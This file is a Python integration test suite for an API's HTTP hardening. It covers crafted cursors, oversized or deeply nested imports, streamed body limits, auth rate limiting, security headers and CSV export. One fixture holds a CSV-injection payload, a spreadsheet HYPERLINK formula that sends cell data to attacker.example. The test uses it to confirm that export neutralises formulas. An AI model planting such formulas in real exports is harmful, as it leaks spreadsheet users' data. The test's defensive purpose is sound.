"""HTTP hardening of the read API over ASGI, against the real PostgreSQL and Redis.

Reproduces the attack review's findings on crafted input and proves each is now a
4xx problem (crafted cursors, a huge rollback version, a deeply nested or over-long
import), that bodies are cut off at their route's limit while they stream in, that
the auth address limit counts a request before its body is parsed, that answers carry
the security headers (the dashboard a strict CSP), that CSV export neutralises
formulas and downloads as an attachment, that /metrics is only on the metrics port,
and that a 204 has no Content-Type. The findings about sockets (streaming, keep-alive,
proxy headers) are proved against a real server in test_http_server.py.
"""

from __future__ import annotations

import base64
import csv
import io
import json
from collections.abc import AsyncIterator
from typing import Any

import asyncpg
import httpx
import pytest

from api.app import create_app
from api.services.principals import Role
from learnstream.settings import Settings
from tests.integration.api.conftest import SignedIn, sign_in

FORMULA_TITLE = '=HYPERLINK("http://attacker.example/?d="&A1,"Click")'


def b64url(text: str) -> str:
    return base64.urlsafe_b64encode(text.encode()).decode().rstrip("=")


def assert_problem(response: httpx.Response, status: int, field: str) -> dict[str, Any]:
    assert response.status_code == status, response.text
    assert response.headers["content-type"] == "application/problem+json"
    problem: dict[str, Any] = response.json()
    assert problem["status"] == status
    assert any(e["field"] == field for e in problem["errors"]), problem
    return problem


@pytest.fixture
async def admin(
    api_client: httpx.AsyncClient,
    db_pool: asyncpg.Pool,
    api_settings: Settings,
    tenants: tuple[str, str],
) -> SignedIn:
    return await sign_in(
        api_client,
        db_pool,
        api_settings,
        tenant_id="acme",
        roles={Role.ADMIN, Role.AUTHOR, Role.OPERATOR},
    )


async def test_crafted_cursors_give_4xx(api_client: httpx.AsyncClient, admin: SignedIn) -> None:
    crafted = {
        "/v1/content": [b64url("9" * 25), b64url("²"), b64url("-1"), "", "%%%"],
        "/v1/audit": [b64url("9" * 25), b64url("²"), b64url("0"), ""],
        "/v1/users": ["", b64url("not-a-uuid"), b64url(""), "A" * 600],
        "/v1/operator/fraud-alerts": [b64url("x|y"), b64url("2026-01-01T00:00:00|nope|1"), ""],
    }
    for path, cursors in crafted.items():
        for cursor in cursors:
            response = await api_client.get(path, params={"cursor": cursor}, headers=admin.headers)
            assert_problem(response, 422, "query.cursor")
    # The cursors the API issues still work.
    first = await api_client.get("/v1/audit", params={"limit": 1}, headers=admin.headers)
    assert first.status_code == 200
    cursor = first.json()["next_cursor"]
    assert cursor is not None
    again = await api_client.get("/v1/audit", params={"cursor": cursor}, headers=admin.headers)
    assert again.status_code == 200


async def _item(client: httpx.AsyncClient, author: SignedIn, title: str) -> dict[str, Any]:
    skill = await client.post(
        "/v1/skills", json={"skill_id": "fractions", "name": "Fractions"}, headers=author.headers
    )
    assert skill.status_code in (201, 409), skill.text
    created = await client.post(
        "/v1/content",
        json={
            "kind": "lesson",
            "title": title,
            "skill_ids": ["fractions"],
            "payload": {"body_markdown": "-1 + 1"},
        },
        headers=author.headers,
    )
    assert created.status_code == 201, created.text
    item: dict[str, Any] = created.json()
    return item


async def test_huge_rollback_version_gives_4xx(
    api_client: httpx.AsyncClient, admin: SignedIn
) -> None:
    item = await _item(api_client, admin, "Halves")
    for version in (39626612227625680896, 2**31, 2**63):
        response = await api_client.post(
            f"/v1/content/{item['item_id']}/rollback",
            json={"version": version},
            headers=admin.headers,
        )
        assert_problem(response, 422, "body.version")
    edit = await api_client.put(
        f"/v1/content/{item['item_id']}",
        json={"title": "x", "payload": {"body_markdown": "y"}, "base_version": 2**40},
        headers=admin.headers,
    )
    assert_problem(edit, 422, "body.base_version")


async def test_deeply_nested_import_gives_4xx(
    api_client: httpx.AsyncClient, admin: SignedIn
) -> None:
    nested = "[" * 3000 + "]" * 3000
    document = '{"items": [{"kind": "lesson", "title": "t", "payload": ' + nested + "}]}"
    response = await api_client.post(
        "/v1/content/import?format=json", content=document, headers=admin.headers
    )
    assert_problem(response, 422, "body")
    # The same inside a CSV cell that holds JSON.
    cell = '"' + "[" * 3000 + "]" * 3000 + '"'
    response = await api_client.post(
        "/v1/content/import?format=csv",
        content=f"kind,title,payload\nlesson,t,{cell}\n",
        headers=admin.headers,
    )
    assert_problem(response, 422, "body")


async def test_long_csv_field_gives_4xx(api_client: httpx.AsyncClient, admin: SignedIn) -> None:
    document = "kind,title,body_markdown\nlesson,Long," + "x" * 131_073 + "\n"
    response = await api_client.post(
        "/v1/content/import?format=csv", content=document, headers=admin.headers
    )
    problem = assert_problem(response, 422, "body")
    assert "row 1" in problem["errors"][0]["reason"]


async def test_csv_export_neutralises_formulas(
    api_client: httpx.AsyncClient, admin: SignedIn
) -> None:
    item = await _item(api_client, admin, FORMULA_TITLE)
    exported = await api_client.get(
        "/v1/content/export", params={"format": "csv"}, headers=admin.headers
    )
    assert exported.status_code == 200
    assert exported.headers["content-disposition"] == 'attachment; filename="content-acme.csv"'
    rows = list(csv.DictReader(io.StringIO(exported.text)))
    (row,) = [r for r in rows if r["item_id"] == item["item_id"]]
    assert row["title"] == "'" + FORMULA_TITLE
    for cells in rows:
        for cell in cells.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    # Import reads the quote back off: the round trip changes nothing.
    again = await api_client.post(
        "/v1/content/import?format=csv&dry_run=true", content=exported.text, headers=admin.headers
    )
    assert again.status_code == 200, again.text
    assert again.json()["unchanged"] == [item["item_id"]]


async def test_dashboard_sends_security_headers(api_client: httpx.AsyncClient) -> None:
    for path in ("/dashboard", "/static/dashboard.js", "/static/dashboard.css"):
        response = await api_client.get(path)
        assert response.status_code == 200, path
        csp = response.headers["content-security-policy"]
        for directive in (
            "default-src 'self'",
            "script-src 'self'",
            "style-src 'self'",
            "object-src 'none'",
            "frame-ancestors 'none'",
        ):
            assert directive in csp, (path, csp)
        assert "unsafe-inline" not in csp
        assert "unsafe-eval" not in csp
        assert response.headers["x-content-type-options"] == "nosniff"
        assert response.headers["referrer-policy"] == "no-referrer"
        assert response.headers["x-frame-options"] == "DENY"
    # Every JSON answer (errors included) carries them too, with a policy allowing nothing.
    for path in ("/healthz", "/v1/no-such-route"):
        response = await api_client.get(path)
        assert response.headers["content-security-policy"].startswith("default-src 'none'")
        assert response.headers["x-content-type-options"] == "nosniff"
        assert response.headers["referrer-policy"] == "no-referrer"


async def test_204_has_no_content_type(
    api_client: httpx.AsyncClient,
    db_pool: asyncpg.Pool,
    api_settings: Settings,
    tenants: tuple[str, str],
) -> None:
    teacher = await sign_in(
        api_client, db_pool, api_settings, tenant_id="acme", roles={Role.TEACHER}
    )
    response = await api_client.post(
        "/v1/auth/logout",
        json={"refresh_token": teacher.tokens["refresh_token"]},
        headers=teacher.headers,
    )
    assert response.status_code == 204
    assert "content-type" not in response.headers
    assert response.content == b""


async def test_metrics_not_on_public_port(
    api_client: httpx.AsyncClient, api_settings: Settings
) -> None:
    public = await api_client.get("/metrics")
    assert public.status_code == 404
    assert "learnstream_api" not in public.text
    private = await api_client.get(f"http://127.0.0.1:{api_settings.api_metrics_port}/metrics")
    assert private.status_code == 200
    assert "learnstream_api_http_requests_total" in private.text
    # The metrics port serves nothing else.
    other = await api_client.get(f"http://127.0.0.1:{api_settings.api_metrics_port}/healthz")
    assert other.status_code == 404


# --- body limits, at the ASGI level: how many bytes did the app pull? ---------------


async def _post_endless_body(
    app: Any, path: str, headers: dict[str, str], *, chunk: int, declare: int | None = None
) -> tuple[int, bytes, int]:
    """POST an endless stream of ``chunk``-byte pieces (or declare ``declare`` bytes);
    the status and body answered, and the bytes the app pulled before answering."""
    pulled = 0
    sent: list[dict[str, Any]] = []

    async def receive() -> dict[str, Any]:
        nonlocal pulled
        if sent and sent[-1]["type"] == "http.response.body":
            return {"type": "http.disconnect"}
        pulled += chunk
        if pulled > 1024 * 1024 * 1024:
            raise AssertionError("the app read 1 GiB and still wants more")
        return {"type": "http.request", "body": b"[" * chunk, "more_body": True}

    async def send(message: dict[str, Any]) -> None:
        sent.append(message)

    raw_headers = [(k.lower().encode(), v.encode()) for k, v in headers.items()]
    if declare is not None:
        raw_headers.append((b"content-length", str(declare).encode()))
    scope = {
        "type": "http",
        "asgi": {"version": "3.0"},
        "http_version": "1.1",
        "method": "POST",
        "scheme": "http",
        "path": path,
        "raw_path": path.encode(),
        "query_string": b"format=json",
        "root_path": "",
        "headers": [(b"host", b"api.test"), (b"content-type", b"application/json"), *raw_headers],
        "client": ("127.0.0.1", 50000),
        "server": ("api.test", 80),
    }
    await app(scope, receive, send)
    start = next(m for m in sent if m["type"] == "http.response.start")
    body = b"".join(m.get("body", b"") for m in sent if m["type"] == "http.response.body")
    return start["status"], body, pulled


@pytest.fixture
async def small_limits_app(api_settings: Settings, db_pool: asyncpg.Pool) -> AsyncIterator[Any]:
    settings = api_settings.model_copy(
        update={"api_max_import_bytes": 64 * 1024, "api_max_auth_body_bytes": 4 * 1024}
    )
    app = create_app(settings)
    async with app.router.lifespan_context(app):
        yield app


async def test_content_import_stops_reading_at_the_limit(
    small_limits_app: Any,
    db_pool: asyncpg.Pool,
    api_settings: Settings,
    tenants: tuple[str, str],
) -> None:
    transport = httpx.ASGITransport(app=small_limits_app)
    async with httpx.AsyncClient(transport=transport, base_url="http://api.test") as client:
        author = await sign_in(client, db_pool, api_settings, tenant_id="acme", roles={Role.AUTHOR})
    status, body, pulled = await _post_endless_body(
        small_limits_app, "/v1/content/import", author.headers, chunk=16 * 1024
    )
    assert status == 413
    problem = json.loads(body)
    assert problem["errors"] == [{"field": "body", "reason": "more than 65536 bytes"}]
    assert pulled <= 64 * 1024 + 16 * 1024
    # A declared length over the limit is refused before a byte is read.
    status, _, pulled = await _post_endless_body(
        small_limits_app, "/v1/content/import", author.headers, chunk=1024, declare=10**9
    )
    assert (status, pulled) == (413, 0)


async def test_streamed_oversized_login_body_is_refused_after_the_limit_in_process(
    small_limits_app: Any,
) -> None:
    status, body, pulled = await _post_endless_body(
        small_limits_app, "/v1/auth/login", {}, chunk=1024
    )
    assert status == 413
    assert json.loads(body)["type"] == "urn:learnstream:problem:payload-too-large"
    assert pulled <= 4 * 1024 + 1024


async def test_auth_rate_limit_counts_before_the_body_is_parsed(
    api_settings: Settings, db_pool: asyncpg.Pool
) -> None:
    settings = api_settings.model_copy(update={"api_auth_rate_limit_per_minute": 3})
    app = create_app(settings)
    async with app.router.lifespan_context(app):
        transport = httpx.ASGITransport(app=app, client=("203.0.113.7", 4000))
        async with httpx.AsyncClient(transport=transport, base_url="http://t") as client:
            statuses = [
                (
                    await client.post(
                        "/v1/auth/login",
                        content=b"{not json",
                        headers={"content-type": "application/json"},
                    )
                ).status_code
                for _ in range(12)
            ]
    # Junk bodies were never parsed once the address was over its limit.
    assert 429 in statuses, statuses
    assert statuses.count(422) <= 6, statuses
